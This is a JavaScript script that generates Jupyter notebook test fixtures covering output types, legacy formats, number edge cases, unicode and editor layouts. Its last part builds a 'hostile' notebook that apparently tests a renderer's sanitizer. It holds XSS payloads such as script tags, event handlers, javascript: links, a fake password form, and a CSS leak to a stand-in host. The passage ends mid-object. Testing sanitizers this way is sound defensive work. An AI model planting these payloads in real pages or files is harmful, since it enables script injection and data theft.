// Writes the notebooks of this folder: `node test/notebooks/make.mjs`. The same script gives the same bytes, always.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32, deflateStored } from './png.mjs';

const folder = dirname(fileURLToPath(import.meta.url));

/** JSON text that JSON.stringify cannot make: 1.0, 1e-05, NaN, 20 digits. */
class Raw {
  constructor(text) {
    this.text = text;
  }
}
const raw = (text) => new Raw(text);

/**
 * JSON as its many writers lay it out.
 *
 * @param indent  one level; '' puts all on one line, with `comma` and `colon` between
 * @param sort    keys in order, as nbformat does
 * @param ascii   escapes everything beyond ASCII
 */
function json(value, { indent = ' ', sort = true, ascii = false, comma = ',', colon = ': ' } = {}) {
  const string = (text) => {
    const quoted = JSON.stringify(text);
    if (!ascii) return quoted;
    return quoted.replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
  };
  const write = (part, depth) => {
    const line = indent === '' ? '' : `\n${indent.repeat(depth + 1)}`;
    const end = indent === '' ? '' : `\n${indent.repeat(depth)}`;
    if (part instanceof Raw) return part.text;
    if (typeof part === 'string') return string(part);
    if (Array.isArray(part)) {
      return part.length === 0 ? '[]' : `[${line}${part.map((one) => write(one, depth + 1)).join(comma + line)}${end}]`;
    }
    if (part === null || typeof part !== 'object') return JSON.stringify(part);
    const keys = Object.keys(part);
    if (sort) keys.sort();
    if (keys.length === 0) return '{}';
    return `{${line}${keys.map((key) => string(key) + colon + write(part[key], depth + 1)).join(comma + line)}${end}}`;
  };
  return write(value, 0);
}

/* eslint-disable no-control-regex -- the separators are control characters */
/** As Python's `splitlines(True)`, by which nbformat cuts: carriage returns and Unicode's separators end lines, too. */
const lines = (text) => text.match(/[^\n\v\f\r\x1c-\x1e\x85\u2028\u2029]*(?:\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029])|[^]+$/g) ?? [];
const code = (id, source, outputs = [], execution_count = null, metadata = {}) => ({
  cell_type: 'code',
  execution_count,
  id,
  metadata,
  outputs,
  source: lines(source),
});
const markdown = (id, source, more = {}) => ({ cell_type: 'markdown', id, metadata: {}, source: lines(source), ...more });
const stream = (text, name = 'stdout') => ({ name, output_type: 'stream', text: lines(text) });
const result = (data, execution_count, metadata = {}) => ({ data, execution_count, metadata, output_type: 'execute_result' });
const display = (data, metadata = {}) => ({ data, metadata, output_type: 'display_data' });
const python = {
  kernelspec: { display_name: 'Python 3 (ipykernel)', language: 'python', name: 'python3' },
  language_info: {
    codemirror_mode: { name: 'ipython', version: 3 },
    file_extension: '.py',
    mimetype: 'text/x-python',
    name: 'python',
    nbconvert_exporter: 'python',
    pygments_lexer: 'ipython3',
    version: '3.11.2',
  },
};
const notebook = (cells, metadata = python, nbformat_minor = 5) => ({ cells, metadata, nbformat: 4, nbformat_minor });
/** Formats below 4.5 have no cell ids. */
const withoutIds = (cells) =>
  cells.map((cell) => {
    const copy = { ...cell };
    delete copy.id;
    return copy;
  });

function save(name, text) {
  const path = join(folder, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}
const jupyter = (name, value) => save(name, `${json(value)}\n`);

/** A picture of width × height pixels as base64 in lines of 76 characters, as IPython wrote it. */
function png(width, height, colour) {
  const chunk = (type, body) => {
    const head = Buffer.alloc(4);
    head.writeUInt32BE(body.length);
    const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([head, named, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = [];
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(1 + 3 * width);
    for (let x = 0; x < width; x++) row.set(colour(x / width, y / height), 1 + 3 * x);
    rows.push(row);
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const image = deflateStored(Buffer.concat(rows));
  const bytes = Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', image), chunk('IEND', Buffer.alloc(0))]);
  return `${bytes.toString('base64').replace(/.{76}/g, '$&\n').trimEnd()}\n`;
}
const curve = (x, y) => (Math.abs(0.5 - 0.4 * Math.sin(2 * Math.PI * x) - y) < 0.03 ? [31, 119, 180] : [255, 255, 255]);
const plot = png(96, 64, curve);

// --- what kernels put out

jupyter(
  'matplotlib.ipynb',
  notebook([
    markdown('about', '# A plot\n\nWith its result as matplotlib gives it.'),
    code('imports', '%matplotlib inline\nimport numpy as np\nimport matplotlib.pyplot as plt', [], 1),
    code(
      'plot',
      'x = np.linspace(0, 2 * np.pi)\nplt.plot(x, np.sin(x))',
      [
        result({ 'text/plain': ['[<matplotlib.lines.Line2D at 0x7f3c9c0b5a10>]'] }, 2),
        display({ 'image/png': plot, 'text/plain': ['<Figure size 640x480 with 1 Axes>'] }, { needs_background: 'light' }),
      ],
      2,
    ),
    code(
      'retina',
      "fig, ax = plt.subplots()\nax.plot(x, np.cos(x))\nprint('drawn')",
      [
        stream('drawn\n'),
        display(
          { 'image/png': plot, 'text/plain': ['<Figure size 640x480 with 1 Axes>'] },
          { 'image/png': { height: 64, width: 96 } },
        ),
      ],
      3,
    ),
    code(
      'svg',
      "%config InlineBackend.figure_formats = ['svg']\nplt.plot(x, x)",
      [
        display({
          'image/svg+xml': lines(
            '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" width="60pt" height="40pt" viewBox="0 0 60 40">\n <defs><style type="text/css">*{stroke-linejoin: round}</style></defs>\n <g id="figure_1"><path d="M 5 35 L 55 5" clip-path="url(#p1)" style="fill: none; stroke: #1f77b4"/></g>\n <defs><clipPath id="p1"><rect x="0" y="0" width="60" height="40"/></clipPath></defs>\n</svg>\n',
          ),
          'text/plain': ['<Figure size 640x480 with 1 Axes>'],
        }),
      ],
      4,
    ),
  ]),
);

const figure = { data: [{ type: 'scatter', x: [1, 2, 3], y: [raw('1.0'), raw('4.0'), raw('9.0')] }], layout: { template: { data: {} }, title: { text: 'Squares' } } };
jupyter(
  'charts.ipynb',
  notebook([
    code('plotly', 'fig.show()', [display({ 'application/vnd.plotly.v1+json': figure, 'text/html': ['<div id="chart"></div>\n', '<script>draw("chart")</script>'] })], 1),
    code('vega', 'alt.Chart(df)', [result({ 'application/vnd.vegalite.v5+json': { $schema: 'https://vega.github.io/schema/vega-lite/v5.json', mark: 'bar' }, 'text/plain': ['alt.Chart(...)'] }, 2)], 2),
    code('geo', 'GeoJSON(x)', [display({ 'application/geo+json': { coordinates: [raw('11.5'), raw('48.10')], type: 'Point' }, 'text/plain': ['<GeoJSON>'] })], 3),
    code('latex', 'x**2', [result({ 'image/png': plot, 'text/latex': ['$\\displaystyle x^{2}$'], 'text/plain': ['x**2'] }, 4)], 4),
  ]),
);
jupyter(
  'r.ipynb',
  notebook(
    withoutIds([
      code('head', 'head(mtcars, 2)', [
        display({
          'text/html': lines('<table class="dataframe">\n<caption>A data.frame: 2 × 2</caption>\n<tr><th></th><th scope=col>mpg</th></tr>\n<tr><th scope=row>Mazda RX4</th><td>21</td></tr>\n</table>\n'),
          'text/latex': lines('A data.frame: 2 × 2\n\\begin{tabular}{r|l}\n  & mpg\\\\\n\\end{tabular}\n'),
          'text/markdown': lines('\n| <!--/--> | mpg |\n|---|---|\n| Mazda RX4 | 21 |\n\n'),
          'text/plain': ['          mpg', '\nMazda RX4 21 '],
        }),
      ], 1),
      code('plot', 'plot(1:3)', [display({ 'image/png': plot.trim(), 'text/plain': ['plot without title'] }, { 'image/png': { height: 420, width: 420 } })], 2),
    ]),
    { kernelspec: { display_name: 'R', language: 'R', name: 'ir' }, language_info: { codemirror_mode: 'r', file_extension: '.r', mimetype: 'text/x-r-source', name: 'R', pygments_lexer: 'r', version: '4.2.2' } },
    4,
  ),
);

const frameRows = [
  ['Lagos', '15388000', '1171.3'],
  ['Lima', '10092000', '2672.3'],
  ['Lisbon', '545000', '100.1'],
];
jupyter(
  'pandas.ipynb',
  notebook([
    code('import', 'import pandas as pd', [], 1),
    code(
      'frame',
      "df = pd.DataFrame({'city': ['Lagos', 'Lima', 'Lisbon'], 'population': [15388000, 10092000, 545000], 'area': [1171.3, 2672.3, 100.1]})\ndf",
      [
        result(
          {
            'text/html': lines(
              `<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n\n    .dataframe tbody tr th {\n        vertical-align: top;\n    }\n\n    .dataframe thead th {\n        text-align: right;\n    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>city</th>\n      <th>population</th>\n      <th>area</th>\n    </tr>\n  </thead>\n  <tbody>\n${frameRows
                .map((row, i) => `    <tr>\n      <th>${i}</th>\n${row.map((one) => `      <td>${one}</td>\n`).join('')}    </tr>\n`)
                .join('')}  </tbody>\n</table>\n</div>`,
            ),
            'text/plain': lines(
              '     city  population    area\n0   Lagos    15388000  1171.3\n1    Lima    10092000  2672.3\n2  Lisbon      545000   100.1',
            ),
          },
          2,
        ),
      ],
      2,
    ),
    code(
      'styled',
      "df.style.highlight_max(subset=['area'])",
      [
        result(
          {
            'text/html': lines(
              '<style type="text/css">\n#T_3f2a1_row1_col2 {\n  background-color: yellow;\n}\n</style>\n<table id="T_3f2a1">\n  <thead>\n    <tr>\n      <th class="blank level0" >&nbsp;</th>\n      <th id="T_3f2a1_level0_col2" class="col_heading level0 col2" >area</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th id="T_3f2a1_level0_row1" class="row_heading level0 row1" >1</th>\n      <td id="T_3f2a1_row1_col2" class="data row1 col2" >2672.300000</td>\n    </tr>\n  </tbody>\n</table>\n',
            ),
            'text/plain': ['<pandas.io.formats.style.Styler at 0x7f3c80b1d2d0>'],
          },
          3,
        ),
      ],
      3,
    ),
    code(
      'failed',
      "df['country']",
      [
        {
          ename: 'KeyError',
          evalue: "'country'",
          output_type: 'error',
          traceback: [
            '\u001b[0;31m---------------------------------------------------------------------------\u001b[0m',
            '\u001b[0;31mKeyError\u001b[0m                                  Traceback (most recent call last)',
            "Cell \u001b[0;32mIn[4], line 1\u001b[0m\n\u001b[0;32m----> 1\u001b[0m \u001b[43mdf\u001b[49m\u001b[43m[\u001b[49m\u001b[38;5;124;43m'\u001b[39;49m\u001b[38;5;124;43mcountry\u001b[39;49m\u001b[38;5;124;43m'\u001b[39;49m\u001b[43m]\u001b[49m\n",
            "\u001b[0;31mKeyError\u001b[0m: 'country'",
          ],
        },
      ],
      4,
    ),
    code(
      'progress',
      'for i in tqdm(range(3)): time.sleep(1)',
      [stream('  0%|          | 0/3\r 33%|███▎      | 1/3\r100%|██████████| 3/3\n', 'stderr'), stream('done\n')],
      5,
    ),
    code(
      'widget',
      'widgets.IntSlider()',
      [
        result(
          {
            'application/vnd.jupyter.widget-view+json': {
              model_id: '0f0c6bd2b8e34f2ab0c9a7a8a3a5d3c1',
              version_major: 2,
              version_minor: 0,
            },
            'text/plain': ['IntSlider(value=0)'],
          },
          6,
        ),
      ],
      6,
    ),
  ]),
);

// --- formats before 4.5

/** Format 2 cut lines without keeping their ends. */
const oldLines = (version, text) => (version === 2 ? text.split('\n') : lines(text));
const oldCells = (version) => [
  ...(version === 3
    ? [{ cell_type: 'heading', level: 2, metadata: {}, source: ['A heading cell'] }]
    : [{ cell_type: 'markdown', source: ['## No heading cells yet'] }]),
  { cell_type: 'markdown', ...(version === 3 ? { metadata: {} } : {}), source: oldLines(version, 'Text with *emphasis*\nand $x^2$') },
  {
    cell_type: 'code',
    collapsed: false,
    input: oldLines(version, "print 'old'\n2 + 2"),
    language: 'python',
    ...(version === 3 ? { metadata: {} } : {}),
    outputs: [
      { output_type: 'stream', ...(version === 3 ? { stream: 'stdout' } : {}), text: ['old\n'] },
      {
        ...(version === 3 ? { metadata: {} } : {}),
        output_type: 'pyout',
        prompt_number: 1,
        text: ['4'],
      },
    ],
    prompt_number: 1,
  },
  {
    cell_type: 'code',
    collapsed: false,
    input: ['plot([1, 2])'],
    language: 'python',
    ...(version === 3 ? { metadata: {} } : {}),
    outputs: [
      { ...(version === 3 ? { metadata: {} } : {}), output_type: 'display_data', png: plot, text: ['<matplotlib.figure.Figure at 0x1>'] },
      {
        ...(version === 3 ? { metadata: {} } : {}),
        html: ['<b>bold</b>'],
        latex: ['$x$'],
        output_type: 'pyout',
        prompt_number: 2,
        svg: ['<svg xmlns="http://www.w3.org/2000/svg"/>'],
        text: ['bold'],
      },
    ],
    prompt_number: 2,
  },
  {
    cell_type: 'code',
    collapsed: true,
    input: ['1/0'],
    language: 'python',
    ...(version === 3 ? { metadata: {} } : {}),
    outputs: [
      {
        ename: 'ZeroDivisionError',
        evalue: 'integer division or modulo by zero',
        output_type: 'pyerr',
        traceback: [
          '\u001b[1;31mZeroDivisionError\u001b[0m Traceback (most recent call last)',
          '\u001b[1;31mZeroDivisionError\u001b[0m: integer division or modulo by zero',
        ],
      },
    ],
    prompt_number: 3,
  },
  version === 3
    ? { cell_type: 'raw', metadata: {}, source: ['.. note:: raw text'] }
    : { cell_type: 'html', source: ['<i>an html cell</i>'] },
  { cell_type: 'code', collapsed: false, input: [], language: 'python', ...(version === 3 ? { metadata: {} } : {}), outputs: [] },
];
jupyter('v3.ipynb', {
  metadata: { name: 'Old notebook' },
  nbformat: 3,
  nbformat_minor: 0,
  worksheets: [{ cells: oldCells(3), metadata: {} }],
});
jupyter('v3-two-worksheets.ipynb', {
  metadata: { name: '', signature: 'sha256:0' },
  nbformat: 3,
  nbformat_minor: 0,
  worksheets: [
    { cells: oldCells(3).slice(0, 3), metadata: {} },
    { cells: oldCells(3).slice(3), metadata: {} },
  ],
});
jupyter('v2.ipynb', {
  metadata: { name: 'Older notebook' },
  nbformat: 2,
  worksheets: [{ cells: oldCells(2) }],
});
jupyter('v1.ipynb', {
  cells: [
    { cell_type: 'text', text: '# The first format\nText and code, no outputs.' },
    { cell_type: 'code', code: "print 'old'\n1 + 1", prompt_number: 1 },
    { cell_type: 'code', code: '' },
  ],
  nbformat: 1,
});
jupyter('v2-minimal.ipynb', {
  metadata: { author: 'Ada', license: 'BSD', name: '' },
  nbformat: 2,
  worksheets: [{ cells: [{ cell_type: 'code', input: 'x', language: 'python', outputs: [{ output_type: 'pyout', text: 'x' }] }] }],
});
// lines without their ends, as the first 3.0 wrote them, and JSON kept as a text
jupyter('v3-lines.ipynb', {
  metadata: { name: '', kernelspec: { display_name: 'Python 2', language: 'python', name: 'python2' }, ratio: raw('1.0') },
  nbformat: 3,
  nbformat_minor: 0,
  worksheets: [
    {
      cells: [
        { cell_type: 'heading', level: 1, metadata: {}, source: ['A heading', 'of two lines'] },
        { cell_type: 'markdown', metadata: { slideshow: { slide_type: 'slide' } }, source: ['one', '', 'three'] },
        {
          cell_type: 'code',
          collapsed: true,
          input: ['for i in range(2):', '    print i'],
          language: 'python',
          metadata: { took: raw('2.50') },
          outputs: [
            { output_type: 'stream', stream: 'stderr', text: ['0', '1', ''] },
            { json: '{"big": 12345678901234567890, "list": [1.0, null]}', metadata: {}, output_type: 'display_data', text: ['<JSON>'] },
            { html: ['<p>', '</p>'], javascript: ['x()'], jpeg: 'AAAA', metadata: { png: { width: 5 } }, output_type: 'display_data', png: 'BBBB' },
          ],
          prompt_number: 4,
        },
      ],
      metadata: {},
    },
  ],
});
jupyter('v3-empty.ipynb', { metadata: { name: 'Nothing' }, nbformat: 3, nbformat_minor: 0, worksheets: [] });
const plain = [
  markdown('text', 'Text'),
  code('run', 'a = 1\na', [result({ 'text/plain': ['1'] }, 1)], 1),
  { cell_type: 'raw', id: 'raw', metadata: { format: 'text/restructuredtext' }, source: ['.. raw::'] },
];
jupyter('v4.0.ipynb', notebook(withoutIds(plain), python, 0));
jupyter('v4.2.ipynb', notebook(withoutIds(plain), { ...python, anaconda: { env: 'base' } }, 2));
jupyter(
  'v4.4.ipynb',
  notebook(
    withoutIds([
      code('x', 'print(1)', [stream('1\n')], 1, { execution: { 'iopub.execute_input': '2021-03-01T10:00:00.000000Z' }, jupyter: { source_hidden: true } }),
    ]),
    python,
    4,
  ),
);

jupyter('v4.1.ipynb', notebook(withoutIds(plain), python, 1));
jupyter('v4.3.ipynb', notebook(withoutIds([code('x', 'x', [], 1, { jupyter: { outputs_hidden: true }, tags: ['a'] })]), python, 3));

// --- sizes

jupyter('empty.ipynb', notebook([], {}));
jupyter('one-empty-cell.ipynb', notebook([code('only', '')], {}));
jupyter(
  'cells-200.ipynb',
  notebook(
    Array.from({ length: 200 }, (_, i) => {
      if (i % 5 === 0) return markdown(`text-${i}`, `## Section ${i / 5 + 1}\n\nSome text about $x_{${i}}$, *with* a [link](https://example.org/${i}).`);
      const text = Array.from({ length: (i * 7) % 23 }, (_, j) => `${i}: line ${j} of what was printed\n`).join('');
      const outputs = [...(text ? [stream(text)] : []), ...(i % 3 === 0 ? [result({ 'text/plain': [`${i * i}`] }, i)] : [])];
      return code(`code-${i}`, `# cell ${i}\nvalue_${i} = ${i} ** 2\nfor j in range(${(i * 7) % 23}):\n    print(f"${i}: line {j} of what was printed")\nvalue_${i}`, outputs, i);
    }),
  ),
);

// --- JSON that JavaScript does not give back as it was

jupyter(
  'numbers.ipynb',
  notebook(
    [
      code(
        'json',
        'display(JSON(values))',
        [
          result(
            {
              'application/json': { big: raw('12345678901234567890'), inf: raw('Infinity'), nan: raw('NaN'), minus: raw('-Infinity'), zero: raw('-0.0') },
              'application/vnd.plotly.v1+json': { data: [{ x: [raw('1.0'), raw('2.50'), raw('1e-05'), raw('1E+22'), raw('NaN')] }] },
              'text/plain': ['<IPython.core.display.JSON object>'],
            },
            1,
          ),
        ],
        1,
        { took: raw('1.0'), tiny: raw('1e-05'), id: raw('18446744073709551616'), ratio: raw('0.30000000000000004') },
      ),
      markdown('text', 'Numbers in metadata: `1.0`, `1e-05`, 20 digits.'),
    ],
    { ...python, papermill: { duration: raw('3.0'), start: raw('1700000000.123456789') }, version: raw('2.10') },
  ),
);
const unicode = notebook([
  markdown('text', '# Ünïcödé 😀 👩‍👩‍👧‍👦 e\u0301 (combining) 𝒳 (astral) \u200fעברית\u200e 日本語\n\nA line separator:\u2028and a paragraph separator:\u2029, a tab:\t, a bell in code.'),
  code('emoji', 'größe = "😀"\nprint(größe * 3)', [stream('😀😀😀\n')], 1),
  code('odd', 'x = "\u0007\u001b[1m\\u0000"', [stream('\u0007\u001b[1mbold\u001b[0m nul:\u0000\n')], 2),
]);
jupyter('unicode.ipynb', unicode);
save('unicode-escaped.ipynb', `${json(unicode, { ascii: true })}\n`);
jupyter(
  'lone-surrogates.ipynb',
  notebook([
    { ...code('half', '', [], 1), source: [raw('"print(\'half an emoji: \\ud83d\')"')], outputs: [{ name: 'stdout', output_type: 'stream', text: [raw('"half an emoji: \\ud83d\\n"')] }] },
    { ...markdown('other', ''), source: [raw('"the other half: \\ude00"')] },
  ]),
);

// --- layouts

const small = notebook([
  markdown('text', '# Layout\n\nThe same notebook as others write it.'),
  code('run', 'print("a")\n1 + 1', [stream('a\n'), result({ 'text/plain': ['2'] }, 1)], 1),
  code('blank', ''),
]);
/** The order of keys that VS Code writes. */
const vscode = {
  cells: small.cells.map(({ cell_type, execution_count, id, metadata, outputs, source }) =>
    cell_type === 'code'
      ? { cell_type, execution_count, id, metadata: { vscode: { languageId: 'python' } }, outputs, source }
      : { cell_type, id, metadata, source },
  ),
  metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' }, language_info: { name: 'python', version: '3.11.2' } },
  nbformat: 4,
  nbformat_minor: 5,
};
save('vscode-indent-1.ipynb', json(vscode, { sort: false }));
save('vscode-indent-2.ipynb', json(vscode, { sort: false, indent: '  ' }));
save('indent-4.ipynb', `${json(small, { indent: '    ' })}\n`);
save('tabs.ipynb', `${json(small, { indent: '\t' })}\n`);
save('compact.ipynb', json(small, { indent: '', colon: ':' }));
save('python-one-line.ipynb', json(small, { indent: '', comma: ', ' }));
save('crlf.ipynb', `${json(small)}\n`.replaceAll('\n', '\r\n'));
save('bom.ipynb', `\ufeff${json(small)}\n`);
save(
  'metadata-first.ipynb',
  `${json({ nbformat: 4, nbformat_minor: 5, metadata: small.metadata, cells: small.cells }, { sort: false })}\n`,
);
jupyter(
  'joined-strings.ipynb',
  notebook([
    { ...markdown('text', ''), source: 'One string,\nnot a list of lines.' },
    { ...code('run', '', [{ name: 'stdout', output_type: 'stream', text: 'one\ntwo\n' }], 1), source: 'print("one\\ntwo")\n' },
    { ...code('odd', '', [], 2), source: ['lines = "split', ' where nobody', '\\nwould"\n', '', 'lines'] },
  ]),
);

// as hosted notebooks write it: another order of keys, ids in the metadata
save(
  'colab.ipynb',
  json(
    {
      nbformat: 4,
      nbformat_minor: 0,
      metadata: { colab: { name: 'Untitled0.ipynb', provenance: [], toc_visible: true }, kernelspec: { name: 'python3', display_name: 'Python 3' }, accelerator: 'GPU' },
      cells: [
        { cell_type: 'markdown', metadata: { id: 'view-in-github', colab_type: 'text' }, source: ['<a href="https://colab.research.google.com/"><img src="https://colab.research.google.com/assets/colab-badge.svg"/></a>'] },
        {
          cell_type: 'code',
          metadata: { id: 'Dx9e3', outputId: '1f3c', colab: { base_uri: 'https://localhost:8080/', height: 34 } },
          source: ['print("\u003cb\u003e")'],
          execution_count: 1,
          outputs: [{ output_type: 'stream', name: 'stdout', text: ['<b>\n'] }],
        },
      ],
    },
    { sort: false, indent: '  ' },
  ).replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
);
save(
  'kaggle.ipynb',
  json(
    { metadata: python, nbformat_minor: 4, nbformat: 4, cells: [{ cell_type: 'code', source: 'import os\nos.listdir("/kaggle/input")', metadata: { _uuid: '8f2839f2', trusted: true }, execution_count: null, outputs: [] }] },
    { sort: false, indent: '', colon: ':' },
  ),
);
jupyter(
  'papermill.ipynb',
  notebook(
    [
      code('p', 'alpha = 0.1', [], 1, { papermill: { duration: raw('0.010000'), exception: false, start_time: '2024-01-01T00:00:00.000000' }, tags: ['parameters'] }),
      code('i', '# Parameters\nalpha = 0.5', [], 2, { tags: ['injected-parameters'] }),
    ],
    { ...python, papermill: { default_parameters: {}, duration: raw('3.10'), parameters: { alpha: raw('0.50'), n: raw('1e3') }, version: '2.4.0' } },
  ),
);
jupyter(
  'stripped.ipynb',
  notebook([markdown('t', 'Outputs were removed before the commit.'), code('a', 'x = 1'), code('b', 'x')], { kernelspec: python.kernelspec }),
);
save('escapes.ipynb', `${json(small)}\n`.replace('"# Layout', '"# L\\u0061yout \\u00E9 \\/ \\uD83D\\uDE00').replace('print(', 'print\\u0028'));
save('spaces.ipynb', `\n\n ${json(small).replaceAll('": ', '"  :\t').replaceAll('},', '} ,')} \n\n`);
save('repeated-keys.ipynb', `${json(small).replace('"cell_type": "markdown",', '"cell_type": "raw",\n   "cell_type": "markdown",')}\n`);
jupyter(
  'line-ends.ipynb',
  notebook([
    code('windows', '', [{ name: 'stdout', output_type: 'stream', text: ['a\r\n', 'b\r', 'c\n', 'd'] }], 1, {}),
    { ...markdown('mixed', ''), source: ['one\r\n', 'two\r', 'three\u2028', 'four\u0085', 'five'] },
    { ...markdown('empty-list', ''), source: [] },
    { ...markdown('empty-text', ''), source: '' },
    { ...markdown('empty-line', ''), source: [''] },
  ]),
);

// --- parts that are easily lost

jupyter(
  'attachments.ipynb',
  notebook([
    markdown('picture', 'A pasted picture: ![image.png](attachment:image.png)\n\nand another: ![a b](attachment:a%20b.png)', {
      attachments: { 'a b.png': { 'image/png': plot }, 'image.png': { 'image/png': plot } },
    }),
    { attachments: { 'raw.txt': { 'text/plain': ['in a raw cell'] } }, cell_type: 'raw', id: 'raw', metadata: {}, source: ['raw with an attachment'] },
  ]),
);
jupyter(
  'raw-cells.ipynb',
  notebook([
    { cell_type: 'raw', id: 'front', metadata: { raw_mimetype: 'text/x-yaml' }, source: lines('---\ntitle: Front matter\n---') },
    { cell_type: 'raw', id: 'rst', metadata: { format: 'text/restructuredtext', tags: ['hide'] }, source: lines('.. math::\n\n   x^2') },
    { cell_type: 'raw', id: 'empty', metadata: {}, source: [] },
  ]),
);
jupyter(
  'metadata.ipynb',
  notebook(
    [
      code('run', 'x', [{ ...display({ 'text/plain': ['x'] }), metadata: { isolated: true, 'text/plain': { unknown: [1, null] } } }], 1, {
        collapsed: true,
        deletable: false,
        editable: false,
        jupyter: { outputs_hidden: true, source_hidden: false },
        name: 'cell-name',
        scrolled: 'auto',
        slideshow: { slide_type: 'subslide' },
        tags: ['parameters', 'raises-exception'],
        'vendor.example/extra': { deep: { list: [{ a: null }, [], {}, ''] } },
      }),
    ],
    {
      ...python,
      authors: [{ name: 'Ada' }],
      celltoolbar: 'Slideshow',
      toc: { base_numbering: 1 },
      title: 'Metadata',
      widgets: { 'application/vnd.jupyter.widget-state+json': { state: {}, version_major: 2, version_minor: 0 } },
    },
  ),
);
jupyter('unknown-fields.ipynb', {
  ...notebook([
    { ...code('run', 'x', [{ ...result({ 'text/plain': ['1'] }, 1), future_output: { a: 1 } }], 1), future_cell: [1, 2] },
    { ...markdown('text', 'Fields that no format knows, yet.'), future_cell: true },
  ]),
  future_top: 'kept',
  nbformat_minor: 9,
});

// --- somebody else's notebook

const attack = (id, data) => code(id, '', [display({ ...data, 'text/plain': ['attack'] })], 1);
jupyter(
  'hostile.ipynb',
  notebook(
    [
      markdown(
        'md',
        '<script>window.hacked = "markdown script"</script>\n<img src=x onerror="window.hacked = \'markdown onerror\'">\n[link](javascript:window.hacked=\'link\') [data](data:text/html,<script>alert(1)</script>)\n\n<a href="java&#x0a;script:window.hacked=\'entity\'">entity</a> <a href=" \u0001javascript:window.hacked=\'control\'">control</a>\n\n<svg><script>window.hacked = "markdown svg"</script><a xlink:href="javascript:window.hacked=\'xlink\'"><text y="20">x</text></a></svg>\n\n<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = \'mutation\'"></style></mglyph></table></mtext></math>\n\n$\\href{javascript:window.hacked=\'tex\'}{x}$ $\\includegraphics{https://example.invalid/pixel.png}$',
      ),
      attack('script', { 'text/html': ['<script>window.hacked = "html script"</script><b>text</b>'] }),
      attack('onerror', {
        'text/html': [
          '<img src=x onerror="window.hacked = \'onerror\'"><details open ontoggle="window.hacked = \'ontoggle\'">d</details><video><source onerror="window.hacked = \'source\'"></video><body onload="window.hacked = \'onload\'">',
        ],
      }),
      attack('frames', {
        'text/html': [
          '<iframe srcdoc="<script>parent.hacked = \'srcdoc\'</script>"></iframe><iframe src="javascript:parent.hacked=\'iframe\'"></iframe><object data="javascript:window.hacked=\'object\'"></object><embed src="javascript:window.hacked=\'embed\'"><base href="https://example.invalid/"><meta http-equiv="refresh" content="0;url=https://example.invalid/"><link rel="stylesheet" href="https://example.invalid/a.css">',
        ],
      }),
      attack('form', {
        'text/html': [
          '<form id="notebook" name="body" action="https://example.invalid/"><input name="getElementById" id="attributes"><input type="password" name="password" autofocus onfocus="window.hacked = \'focus\'"><button formaction="javascript:window.hacked=\'formaction\'">Log in</button></form><img name="querySelector"><a id="location" href="https://example.invalid/">x</a>',
        ],
      }),
      attack('style', {
        'text/html': [
          '<style>body { display: none !important } .cell { position: fixed; inset: 0; z-index: 99999; background: red } input[value^="a"] { background: url(https://example.invalid/leak) } @import url(https://example.invalid/b.css);</style><div style="position: fixed; inset: 0; z-index: 2147483647; background: white">over everything</div>',
        ],
      }),
      attack('commands', {
        'text/html': [
          '<button data-commandlinker-command="notebook:delete" data-commandlinker-args="{}" data-command="kernel:restart" class="btn btn-primary" accesskey="s">Click me</button><a href="#" data-action="shutdown" data-toggle="dropdown" role="menuitem">menu</a><a href="/logout" target="_top">log out</a><a href="../api/shutdown" ping="https://example.invalid/">ping</a>',
        ],
      }),
      attack('svg', {
        'image/svg+xml': [
          '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked = \'svg onload\'"><script>window.hacked = "svg script"</script><foreignObject><iframe src="javascript:parent.hacked=\'foreign\'"></iframe></foreignObject><animate attributeName="href" values="javascript:window.hacked=\'animate\'"/><image href="https://example.invalid/pixel.png"/></svg>',
        ],
      }),
      attack('javascript', { 'application/javascript': ['window.hacked = "application/javascript"'] }),
      attack('latex', { 'text/latex': ["$\\href{javascript:window.hacked='latex'}{x}$ \\htmlData{command=x}{y} \\def\\a{\\a\\a}\\a"] }),
      attack('png', { 'image/png': '"><script>window.hacked = "png"</script>' }),
      attack('markdown', { 'text/markdown': ['<img src=x onerror="window.hacked = \'markdown output\'">'] }),
      code('ansi', '', [stream('\u001b]8;;javascript:window.hacked=1\u0007link\u001b]8;;\u0007 \u001b[38;5;1;"><script>window.hacked = "ansi"</script>m <img src=x onerror="window.hacked = \'stream\'">\n')], 1),
      code(
        'error',
        '',
        [{ ename: '<script>window.hacked = "ename"</script>', evalue: '<img src=x onerror="window.hacked = \'evalue\'">', output_type: 'error', traceback: ['\u001b[31m<script>window.hacked = "traceback"</script>\u001b[0m'] }],
        1,
      ),
      code('__proto__', '/* a cell id that is a name in JavaScript */', [], 1, { tags: ['<img src=x onerror="window.hacked = \'tag\'">'] }),
      markdown('attached', '![x](attachment:x.svg)', {
        attachments: { 'x.svg': { 'image/svg+xml': ['<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked = \'attachment\'"/>'] } },
      }),
    ],
    {
      ...python,
